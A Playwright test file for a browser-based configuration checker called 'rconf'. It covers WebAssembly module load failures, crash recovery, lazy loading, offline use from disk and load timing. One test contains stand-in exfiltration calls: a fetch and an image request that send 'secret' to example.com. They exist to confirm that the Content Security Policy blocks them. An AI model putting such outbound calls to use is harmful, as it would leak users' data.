import { existsSync } from "node:fs";
import { fileURLToPath, pathToFileURL } from "node:url";
import { editor, expect, findings, open, paste, test } from "./fixtures.ts";

test.describe("when the module does not load", () => {
  test.use({ allowed: /^console: Failed to load resource/ });

  test("the page says so and what to do", async ({ page, url }) => {
    await page.route("**/rconf.en.wasm*", (route) => route.fulfill({ status: 404 }));
    await page.goto(url);
    await expect(page.getByRole("alert")).toContainText("did not load");
    await expect(page.getByRole("button", { name: "Reload", exact: true })).toBeVisible();
  });

  test("so it does for a file that is not a module", async ({ page, url }) => {
    await page.route("**/rconf.en.wasm*", (route) => route.fulfill({ status: 200, contentType: "application/wasm", body: "<html>" }));
    await page.goto(url);
    await expect(page.getByRole("alert")).toContainText("did not load");
  });
});

test.describe("when the module that makes clusters does not load", () => {
  test.use({ allowed: /^console: Failed to load resource/ });

  test("the page says so, goes on, and tries again", async ({ page, url }) => {
    await page.route("**/make.en.wasm*", (route) => route.fulfill({ status: 503 }));
    await open(page, url);
    await page.locator("#tab-generate").click();
    await expect(page.locator(".toast")).toContainText("make.en.wasm: 503");
    await page.locator("#tab-check").click();
    await paste(page, "bogus yes\n");
    await expect(findings(page, "L0").first()).toBeVisible();
    await page.unroute("**/make.en.wasm*");
    await page.locator("#tab-generate").click();
    await expect(page.locator(".tree button").first()).toBeVisible();
  });
});

test("only the modules that are needed are loaded", async ({ page, url }) => {
  const asked: string[] = [];
  page.on("request", (request) => request.url().includes(".wasm") && asked.push(new URL(request.url()).pathname));
  await open(page, url);
  await paste(page, "bogus yes\n");
  await expect(findings(page, "L0").first()).toBeVisible();
  await page.locator("#tab-slots").click();
  await expect(page.locator(".slots .slot")).toBeVisible();
  await expect(page.locator(".answer")).toContainText("is known when");
  expect(asked).toEqual(["/rconf.en.wasm"]);
  await page.locator("#tab-generate").click();
  await expect(page.locator(".tree button").first()).toBeVisible();
  expect(asked).toEqual(["/rconf.en.wasm", "/make.en.wasm"]);
});

test.describe("when the module breaks", () => {
  test("it starts again, and no text is lost", async ({ page, url }) => {
    await open(page, url);
    await paste(page, "bogus yes\n");
    await expect(findings(page, "L0").first()).toBeVisible();
    await page.evaluate(() => document.dispatchEvent(new CustomEvent("rconf-break")));
    await expect(page.locator(".toast")).toContainText("lib.rs");
    await page.keyboard.press("Control+End");
    await page.keyboard.type("\nbind\n");
    await expect(editor(page)).toContainText("bogus yes");
    await expect(findings(page, "L0")).not.toHaveCount(1);
  });
});

test.describe("nothing leaves the tab", () => {
  // The browser logs the attempts, and the policy blocks them.
  test.use({ allowed: /policy: (connect|img)-src|Content Security Policy|request: https:\/\/example\.com/ });

  test("the policy holds for the page and for the worker", async ({ page, url }) => {
    const answered: string[] = [];
    page.on("response", (response) => response.url().includes("example.com") && answered.push(response.url()));
    await open(page, url);
    const send = async () => {
      try {
        await fetch("https://example.com/?what=secret");
        return "sent";
      } catch (why) {
        return String(why);
      }
    };
    expect(await page.evaluate(send)).toContain("TypeError");
    const [worker] = page.workers();
    expect(await worker?.evaluate(send)).toContain("TypeError");
    const refused = await page.evaluate(
      () =>
        new Promise<string>((resolve) => {
          addEventListener("securitypolicyviolation", (event) => resolve(event.violatedDirective), { once: true });
          new Image().src = "https://example.com/secret.png";
        }),
    );
    expect(refused).toBe("img-src");
    expect(answered).toEqual([]);
  });
});

test("rconf.html works from a disk", async ({ page }) => {
  const file = fileURLToPath(new URL("../dist/rconf.html", import.meta.url));
  expect(existsSync(file)).toBe(true);
  const asked: string[] = [];
  page.on("request", (request) => asked.push(request.url()));
  await page.goto(pathToFileURL(file).href);
  await expect(findings(page, "A001").first()).toBeVisible();
  await page.locator("#tab-generate").click();
  await expect(page.locator(".tree button").first()).toBeVisible();
  expect(asked.filter((one) => !/^(data|blob):/.test(one))).toEqual([pathToFileURL(file).href]);
});

test("the first findings are shown soon", async ({ browser, url }) => {
  const times: number[] = [];
  for (let nth = 0; nth < 3; nth++) {
    // A new context, where nothing is cached.
    const context = await browser.newContext();
    const page = await context.newPage();
    await page.goto(url, { waitUntil: "commit" });
    await page.locator(".found .finding").first().waitFor();
    times.push(await page.evaluate(() => performance.getEntriesByName("rconf check")[0]?.startTime ?? 0) + (await page.evaluate(() => performance.getEntriesByName("rconf check")[0]?.duration ?? Infinity)));
    await context.close();
  }
  console.log(`first findings of a cold load: ${times.map((time) => Math.round(time)).join(", ")} ms`);
  // The aim is a second on an idle machine.
  expect(Math.min(...times)).toBeLessThan(2500);
});
